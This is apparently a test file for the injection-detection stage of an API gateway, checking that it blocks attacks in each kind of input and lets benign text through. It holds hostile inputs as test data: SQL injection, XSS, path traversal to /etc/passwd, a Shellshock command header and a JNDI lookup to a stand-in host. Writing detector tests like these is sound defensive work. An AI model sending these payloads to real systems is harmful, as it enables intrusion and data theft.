import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { type RunningOrdersApi, startOrdersApi } from '../../demo/orders-api.js';
import { InputError, type ProblemItem } from '../../openapi/errors.js';
import { type ApiRoute, configRoute } from '../../openapi/route-settings.js';
import { type ApiGateway, startApiGateway } from '../../test-support/gateway.js';
import { send } from '../../test-support/http.js';
import { captureLogger, type FakeRequest, fakeContext, fakeDeps } from '../../test-support/stage.js';
import { emptyInputs, inspect } from './engine.js';
import { budgetFor, inspectStage } from './index.js';
import {
  ATTACK_FILES,
  detectionRate,
  falsePositiveRate,
  readCorpus,
  rulesFor,
} from './test-support/corpus.js';

const PL1 = (budgetMicros: number) => ({ paranoiaLevel: 1, budgetMicros });

const DEMO = new URL('../../../demo/openapi.yaml', import.meta.url).pathname;

function route(inspection: Record<string, unknown> = {}): ApiRoute {
  return configRoute(
    { path: '/things/{id}', methods: ['GET', 'POST'], upstream: 'api', inspection: inspection as never },
    0,
  );
}

/** The stage's answer: the rejected locations and categories, or 'passed'. */
async function verdict(request: FakeRequest, r = route()): Promise<readonly ProblemItem[] | 'passed'> {
  const stage = inspectStage.create(r, fakeDeps());
  assert.ok(stage);
  try {
    await stage.handle(fakeContext(r, request));
    return 'passed';
  } catch (err) {
    assert.ok(err instanceof InputError, String(err));
    assert.equal(err.code, 'input.rejected');
    assert.equal(err.status, 403);
    return err.errors;
  }
}

const JSON_TYPE = { 'content-type': 'application/json' };
const body = (value: unknown): FakeRequest => ({
  method: 'POST',
  headers: JSON_TYPE,
  body: JSON.stringify(value),
});

describe('detection rates on the corpora', () => {
  it('detects at least 95% of SQL injection and XSS payloads with at most 0.5% false positives', (t) => {
    const lines: string[] = [];
    for (const category of Object.keys(ATTACK_FILES) as (keyof typeof ATTACK_FILES)[]) {
      const r = detectionRate(category);
      lines.push(`${category}: ${r.hits}/${r.total} detected (${((100 * r.hits) / r.total).toFixed(1)}%)`);
      if (category === 'sqli' || category === 'xss')
        assert.ok(r.hits / r.total >= 0.95, `${category}: ${JSON.stringify(r.wrong)}`);
    }
    const fp = falsePositiveRate();
    lines.push(`benign: ${fp.hits}/${fp.total} flagged (${((100 * fp.hits) / fp.total).toFixed(2)}%)`);
    assert.ok(fp.hits / fp.total <= 0.005, JSON.stringify(fp.wrong));
    // The held-out corpora were written after the rules and not tuned on: reported, not asserted here
    // (holdout/benign-api.jsonl has a ceiling in crs.test.ts).
    for (const file of [
      'holdout/sqli.txt',
      'holdout/xss.txt',
      'holdout/benign.jsonl',
      'holdout/benign-api.jsonl',
      'holdout/benign-3.jsonl',
      'holdout/benign-4.jsonl',
      'holdout/benign-5.jsonl',
      'holdout/benign-6.jsonl',
      'holdout/benign-7.jsonl',
      'holdout/benign-8.jsonl',
      'holdout/benign-9.jsonl',
      'holdout/benign-10.jsonl',
    ]) {
      const payloads = readCorpus(file);
      const flagged = payloads.filter((p) => rulesFor(p).length > 0).length;
      lines.push(`${file}: ${flagged}/${payloads.length} flagged`);
    }
    for (const line of lines) t.diagnostic(line);
  });
});

describe('the engine sees every input, however large', () => {
  const leaves = (texts: string[]) => {
    const inputs = emptyInputs();
    inputs.args = texts.map((text, i) => ({ location: ['body', 'items', String(i)], text }));
    return inputs;
  };

  it('finds an attack at the end of a string longer than the engine reads at once', () => {
    const result = inspect(
      leaves([`${'lorem ipsum '.repeat(2000)} <script>alert(1)</script>`]),
      PL1(1_000_000),
    );
    assert.deepEqual([...new Set(result.detections.map((d) => d.location))], ['/body/items/0']);
  });

  it('finds an attack in the 70,000th item of a list and names its location', () => {
    const texts = Array.from({ length: 70_001 }, (_, i) => `item ${i}`);
    texts[70_000] = "' OR 1=1--";
    const result = inspect(leaves(texts), PL1(5_000_000));
    assert.equal(result.timedOut, false);
    assert.ok(result.detections.some((d) => d.location === '/body/items/70000' && d.category === 'sqli'));
  });

  it('finds an attack nested deeper than the engine walks', async () => {
    let value: unknown = '<script>alert(1)</script>';
    for (let i = 0; i < 30; i++) value = { a: value };
    assert.notEqual(await verdict(body(value)), 'passed');
  });
});

describe('inspecting each kind of input', () => {
  const cases: [string, FakeRequest, FakeRequest, string, string][] = [
    [
      'a path parameter',
      { params: { id: '../../etc/passwd' } },
      { params: { id: 'ord_1001' } },
      '/path/id',
      'traversal',
    ],
    [
      'a query value',
      { query: `q=${encodeURIComponent("1' OR '1'='1")}` },
      { query: `q=${encodeURIComponent("O'Brien")}` },
      '/query/q',
      'sqli',
    ],
    [
      'a query name (NoSQL operator)',
      { query: 'user[$ne]=admin' },
      { query: 'user[name]=admin' },
      '/query/user[$ne]',
      'nosql',
    ],
    [
      'a header',
      { headers: { 'user-agent': '() { :; }; /bin/bash -c id' } },
      { headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64)' } },
      '/header/user-agent',
      'cmdi',
    ],
    [
      'a cookie',
      { headers: { cookie: 'pref=<script>alert(1)</script>' } },
      { headers: { cookie: 'pref=dark; lang=en' } },
      '/cookie/pref',
      'xss',
    ],
    [
      'a cookie as Python reads it (a quoted value with octal escapes)',
      { headers: { cookie: 'pref="\\074script\\076alert(1)\\074/script\\076"' } },
      { headers: { cookie: 'pref="dark\\054 wide"' } },
      '/cookie/pref',
      'xss',
    ],
    ['a JSON value', body({ note: '{{7*7}}' }), body({ note: 'Hi {{first_name}}' }), '/body/note', 'ssti'],
    [
      'a JSON key (NoSQL operator)',
      body({ password: { $ne: null } }),
      body({ password: 'hunter2' }),
      '/body/password/$ne',
      'nosql',
    ],
    [
      'a form field',
      {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: 'cmd=%3B%20cat%20%2Fetc%2Fpasswd',
      },
      {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: 'cmd=cat%20videos',
      },
      '/body/cmd',
      'cmdi',
    ],
    [
      'a text body',
      { method: 'POST', headers: { 'content-type': 'text/plain' }, body: '${jndi:ldap://evil.example/a}' },
      { method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'Dear ${name}, thanks' },
      '/body',
      'ssti',
    ],
  ];
  for (const [where, attack, legit, location, category] of cases) {
    it(`rejects an injection in ${where} and lets the ordinary value beside it through`, async () => {
      const found = await verdict(attack);
      assert.notEqual(found, 'passed');
      assert.ok(
        (found as ProblemItem[]).some((p) => p.location === location && p.rule === category),
        JSON.stringify(found),
      );
      assert.equal(await verdict(legit), 'passed');
    });
  }

  it('inspects a multipart field and a file name', async () => {
    const multipart = (name: string, filename: string) => ({
      method: 'POST',
      headers: { 'content-type': 'multipart/form-data; boundary=XyZ' },
      body: `--XyZ\r\nContent-Disposition: form-data; name="title"\r\n\r\n${name}\r\n--XyZ\r\nContent-Disposition: form-data; name="f"; filename="${filename}"\r\n\r\nbytes\r\n--XyZ--\r\n`,
    });
    assert.notEqual(await verdict(multipart('<svg onload=alert(1)>', 'a.png')), 'passed');
    assert.notEqual(await verdict(multipart('holiday', '../../../etc/passwd')), 'passed');
    assert.equal(await verdict(multipart('holiday', 'beach.png')), 'passed');
  });

  it('decodes what an upstream would: double URL encoding, HTML entities, Unicode escapes', async () => {
    assert.notEqual(await verdict({ query: 'q=%253Cscript%253Ealert(1)%253C%252Fscript%253E' }), 'passed');
    assert.notEqual(await verdict(body({ bio: '&lt;script&gt;alert(1)&lt;/script&gt;' })), 'passed');
    assert.notEqual(
      await verdict({
        method: 'POST',
        headers: JSON_TYPE,
        body: '{"bio":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}',
      }),
      'passed',
    );
    assert.notEqual(
      await verdict({
        method: 'POST',
        headers: { 'content-type': 'text/plain' },
        body: '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
      }),
      'passed',
    );
    assert.notEqual(await verdict({ query: 'file=..%252f..%252f..%252fetc%252fpasswd' }), 'passed');
  });

  it('refuses a JSON body that is not valid JSON, and in monitor mode inspects it as text', async () => {
    const request = {
      method: 'POST',
      headers: JSON_TYPE,
      body: "{'q': \"1' UNION SELECT password FROM users--",
    };
    const r = route();
    const stage = inspectStage.create(r, fakeDeps());
    assert.ok(stage);
    await assert.rejects(
      async () => stage.handle(fakeContext(r, request)),
      (err: unknown) => err instanceof InputError && err.status === 400 && err.code === 'input.invalid',
    );
    const watched = route({ mode: 'monitor' });
    const monitor = inspectStage.create(watched, fakeDeps());
    assert.ok(monitor);
    const ctx = fakeContext(watched, request);
    await monitor.handle(ctx);
    assert.deepEqual([...ctx.shadowDenials].sort(), ['inspect:sqli', 'inspect:unreadable_body']);
  });
});

describe('modes, exclusions and the time budget', () => {
  it('in monitor mode, lets an attack through and logs its location and category, never its value', async () => {
    const r = route({ mode: 'monitor' });
    const { logger, lines: logs } = captureLogger();
    const ctx = fakeContext(r, { query: `q=${encodeURIComponent('<script>alert("s3cr3t")</script>')}` });
    await inspectStage.create(r, fakeDeps(logger))!.handle(ctx);
    assert.deepEqual(ctx.shadowDenials, ['inspect:xss']);
    const line = logs.find((l) => l.msg === 'injection detected (monitor)')!;
    assert.match(String(line.detections), /^\/query\/q xss (?:94\d{4}|pc-xss-)/);
    assert.ok(!JSON.stringify(logs).includes('s3cr3t'));
  });

  it('skips an excluded location (a rich-text field) and still inspects the others', async () => {
    const r = route({ exclude: ['/body/html', 'query.raw'] });
    assert.equal(
      await verdict({ ...body({ html: '<img src=x onerror=alert(1)>' }), query: 'raw=%3Cscript%3E' }, r),
      'passed',
    );
    assert.notEqual(await verdict(body({ html: 'ok', title: '<img src=x onerror=alert(1)>' }), r), 'passed');
  });

  it('excludes a location from some categories only', async () => {
    const r = route({ exclude: [{ location: '/body/items/*/html', categories: ['xss'] }] });
    assert.equal(await verdict(body({ items: [{ html: '<b onmouseover=alert(1)>x</b>' }] }), r), 'passed');
    assert.notEqual(
      await verdict(body({ items: [{ html: "x' UNION SELECT password FROM users--" }] }), r),
      'passed',
    );
  });

  it('looks only for the configured categories', async () => {
    const r = route({ categories: ['sqli'] });
    assert.equal(await verdict({ query: 'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E' }, r), 'passed');
    assert.notEqual(await verdict({ query: 'q=1%27%20OR%201%3D1--' }, r), 'passed');
  });

  it('rejects a request it could not inspect within the time budget (fail closed), and monitors it in monitor mode', async () => {
    const input = body({ text: 'ordinary '.repeat(5000) });
    assert.deepEqual(await verdict(input, route({ timeout: '0ms' })), [{ location: '', rule: 'incomplete' }]);
    const r = route({ timeout: '0ms', mode: 'monitor' });
    const { logger, lines: logs } = captureLogger();
    await inspectStage.create(r, fakeDeps(logger))!.handle(fakeContext(r, input));
    assert.ok(logs.some((l) => l.msg === 'inspection incomplete (monitor)'));
  });

  it('gives a request the budget once per 4,096 characters of its text, and at least once', () => {
    const inputs = emptyInputs();
    inputs.args.push({ location: ['body', 'a'], text: 'x'.repeat(100) });
    assert.equal(budgetFor(inputs, 10_000), 10_000);
    inputs.headers.push({ location: ['header', 'x-note'], text: 'y'.repeat(8092) });
    assert.equal(budgetFor(inputs, 10_000), 20_000);
  });

  it('inspects 22 KB of markdown within the default budget, and still finds an attack at its end', async () => {
    // About 20 ms of CPU at PL1: a budget of 10 ms per request refused it every time.
    const markdown =
      '## Notes\n\nSome *text* with `code` and a [link](https://example.com/x).\n\n- item one\n- item two\n'.repeat(
        250,
      );
    assert.equal(await verdict(body({ text: markdown })), 'passed');
    assert.notEqual(await verdict(body({ text: `${markdown}\n<script>alert(1)</script>` })), 'passed');
  });

  it('is off where the route says so', () => {
    assert.equal(inspectStage.create(route({ mode: 'off' }), fakeDeps()), undefined);
  });
});

describe('the inspect stage in a gateway', () => {
  let api: RunningOrdersApi;
  let gw: ApiGateway;
  before(async () => {
    api = await startOrdersApi(0);
    gw = await startApiGateway({ upstream: `http://127.0.0.1:${api.port}`, document: DEMO });
  });
  after(async () => {
    await gw.close();
    await api.close();
  });

  it('answers 403 input.rejected to an injection that passes validation, without echoing it', async () => {
    const payload = "x' UNION SELECT password FROM users--";
    const r = await send(gw.url, '/echo', {
      method: 'POST',
      headers: JSON_TYPE,
      body: JSON.stringify({ message: payload }),
    });
    assert.equal(r.status, 403);
    assert.equal(r.json().code, 'input.rejected');
    assert.ok(!r.body.includes('UNION'));
  });

  it('lets ordinary text that looks suspicious to naive filters through', async () => {
    for (const message of [
      "O'Brien",
      'Please select a plan',
      'Tom & Jerry; rock n roll',
      '50% off -- today only',
    ]) {
      const r = await send(gw.url, '/echo', {
        method: 'POST',
        headers: JSON_TYPE,
        body: JSON.stringify({ message }),
      });
      assert.equal(r.status, 200, message);
    }
  });

  it('honours the document’s exclusion of the rich-text field from XSS, but not from SQL injection', async () => {
    const html = await send(gw.url, '/echo', {
      method: 'POST',
      headers: JSON_TYPE,
      body: JSON.stringify({ html: '<p onclick="track()">Hello</p>' }),
    });
    assert.equal(html.status, 200);
    const sqli = await send(gw.url, '/echo', {
      method: 'POST',
      headers: JSON_TYPE,
      body: JSON.stringify({ html: "1' OR '1'='1' --" }),
    });
    assert.equal(sqli.status, 403);
  });
});
